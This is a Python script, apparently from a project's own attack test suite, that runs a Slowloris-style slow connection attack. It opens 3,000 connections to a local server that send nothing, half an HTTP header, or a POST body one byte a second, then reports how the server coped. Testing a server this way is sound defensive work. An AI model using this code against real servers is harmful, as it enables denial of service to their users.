"""Three thousand connections that send nothing, half a head, or a byte of it a second."""

import asyncio
import resource
import time

from scripts.attacks.target import ATTACKER, Target, run

MANY = 3000
BEGINNINGS = (
    b"",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: ",
    b"POST /masuk HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5000\r\n\r\na",
)


async def attack(target: Target, seconds: float) -> str:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 2 * MANY), hard))
    until, open_, ended, refused = time.monotonic() + seconds, 0, [], 0

    async def hold(number: int) -> None:
        nonlocal open_, refused
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", target.port, local_addr=(ATTACKER, 0))
        except OSError:
            refused += 1
            return
        open_, start = open_ + 1, time.monotonic()
        end = asyncio.create_task(reader.read())
        try:
            writer.write(BEGINNINGS[number % len(BEGINNINGS)])
            while time.monotonic() < until and not end.done():
                if number % len(BEGINNINGS):
                    writer.write(b"a")
                await asyncio.wait([end], timeout=1)
            if end.done():
                ended.append(time.monotonic() - start)
                end.exception()
        except OSError:
            ended.append(time.monotonic() - start)
        finally:
            end.cancel()
            writer.transport.abort()

    async def beginning(number: int) -> None:
        await asyncio.sleep(number / MANY * 3)
        await hold(number)

    await asyncio.gather(*(beginning(number) for number in range(MANY)))
    longest = f", after {max(ended):.0f} s at most" if ended else ""
    return f"{open_:,} connected, {refused:,} not; the server ended {len(ended):,} of them{longest}"


if __name__ == "__main__":
    run("half-open connections", __doc__, attack)
